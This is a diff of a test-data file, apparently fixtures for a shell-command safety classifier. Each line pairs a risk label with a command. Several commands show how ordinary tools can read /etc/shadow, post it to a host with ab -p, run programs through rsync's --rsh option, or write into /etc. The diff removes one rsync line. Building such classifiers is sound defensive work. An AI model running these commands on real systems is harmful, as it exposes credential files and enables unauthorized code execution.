@@ -90,7 +90,6 @@ option-reads-list | dig -f /etc/shadow
 read:/etc/shadow | ab -p /etc/shadow http://x
 option-runs-program | rsync -a a b --rsh=./e
 option-writes-file | rsync -a --log-file=/etc/x a b
-option-runs-program | rsync -a -e ssh a b:
 read:/etc/x | rsync --password-file=/etc/x a b
 option-runs-program | rsync -M--log-file=x a b:
 write:/etc | rsync -a --backup-dir=/etc a b
